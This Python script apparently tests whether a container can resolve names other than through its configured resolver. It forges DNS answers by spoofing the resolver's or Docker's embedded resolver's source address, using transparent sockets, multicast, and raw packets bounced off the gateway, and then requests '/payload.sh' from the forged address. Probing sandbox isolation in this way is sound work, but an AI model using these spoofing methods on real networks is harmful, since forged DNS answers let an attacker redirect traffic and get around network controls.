"""What a step may do to get an answer, and then connects: resolve.py WAY NAME PORT
plain: as its resolv.conf says. tcp: of that resolver, over TCP. mapped: of a resolver, all by IPv6 sockets. group,
gateway: by an answer in the resolver's name that it sends itself, to a group that it is in, or to its gateway, which
gives it back. embedded: the same in the name of docker's own resolver."""
import socket
import struct
import sys
import time

import nameserver

RESOLVER = "198.51.100.67"
FORGED = "198.51.100.68"
EMBEDDED = "127.0.0.11"
GROUP = "224.0.0.200"
IP_TRANSPARENT = 19
ETH_P_IP = 0x0800


def datagram(family=socket.AF_INET):
    sock = socket.socket(family, socket.SOCK_DGRAM)
    sock.settimeout(4)
    return sock


def hear(sock):
    """The sender of the next datagram; a step may go on without one."""
    try:
        sender = sock.recvfrom(512)[1][0]
    except OSError as error:
        sender = error
    print("heard of", sender, flush=True)


def connect(address, port):
    with socket.create_connection((address, port), 10) as stream:
        stream.sendall(b"GET /payload.sh HTTP/1.0\r\n\r\n")  # without a Host field: it claims nothing
        print(stream.recv(4096).split(b"\r\n")[0])


def plain(name):
    return socket.getaddrinfo(name, None, socket.AF_INET)[0][4][0]


def tcp(name):
    with open("/etc/resolv.conf") as lines:
        resolver = next(words[1] for words in map(str.split, lines) if words[:1] == ["nameserver"])
    query = nameserver.query(name, "A")
    with socket.create_connection((resolver, 53), 10) as stream, stream.makefile("rb") as read:
        stream.sendall(len(query).to_bytes(2, "big") + query)
        print("over TCP", len(read.read(int.from_bytes(read.read(2), "big"))), "bytes", flush=True)
    return nameserver.ZONE[name][0][1]


def mapped(name):
    with datagram(socket.AF_INET6) as sock:
        sock.sendto(nameserver.query(name, "AAAA"), ("::ffff:" + RESOLVER, 53))
        hear(sock)
    return nameserver.ZONE[name][0][1]


def forged_answer(name):
    return nameserver.answer(nameserver.query(name, "A"), FORGED)


def group(name):
    link = struct.pack("=4si", bytes(4), socket.if_nametoindex("eth0"))
    with datagram() as ears, datagram() as mouth:
        ears.bind(("", 5300))
        ears.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton(GROUP) + link)
        mouth.setsockopt(socket.IPPROTO_IP, IP_TRANSPARENT, 1)
        mouth.bind((RESOLVER, 53))
        mouth.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(GROUP) + link)
        mouth.sendto(forged_answer(name), (GROUP, 5300))
        hear(ears)
    return FORGED


def embedded(name):
    with datagram() as ears, datagram() as mouth:
        ears.bind(("127.0.0.1", 5300))
        mouth.bind((EMBEDDED, 53))
        mouth.sendto(forged_answer(name), ("127.0.0.1", 5300))
        hear(ears)
    return FORGED


def packet(sender, receiver, payload):
    """IPv4 and UDP; the latter without a sum (RFC 768)."""
    udp = struct.pack("!4H", 53, 5300, 8 + len(payload), 0) + payload
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 1, 0, 64, socket.IPPROTO_UDP, 0)
    head += socket.inet_aton(sender) + socket.inet_aton(receiver)
    total = sum(struct.unpack("!10H", head))
    total = (total & 0xFFFF) + (total >> 16)
    total = (total & 0xFFFF) + (total >> 16)
    return head[:10] + struct.pack("!H", total ^ 0xFFFF) + head[12:] + udp


def gateway_and_own():
    with open("/proc/net/route") as table:
        via = next(fields[2] for fields in map(str.split, table) if fields[1] == "00000000")
    address = socket.inet_ntoa(struct.pack("=I", int(via, 16)))
    with datagram() as sock:
        sock.connect((address, 9))
        sock.send(b"")  # so that its link address is asked for
        time.sleep(1)
        with open("/proc/net/arp") as table:
            link = next(fields[3] for fields in map(str.split, table) if fields[0] == address)
        return bytes.fromhex(link.replace(":", "")), sock.getsockname()[0]


def gateway(name):
    link, own = gateway_and_own()
    with datagram() as ears, socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0) as mouth:
        ears.bind((own, 5300))
        mouth.sendto(packet(RESOLVER, own, forged_answer(name)), ("eth0", ETH_P_IP, 0, 0, link))
        hear(ears)
    return FORGED


if __name__ == "__main__":
    ways = {"plain": plain, "tcp": tcp, "mapped": mapped, "group": group, "gateway": gateway, "embedded": embedded}
    connect(ways[sys.argv[1]](sys.argv[2]), int(sys.argv[3]))
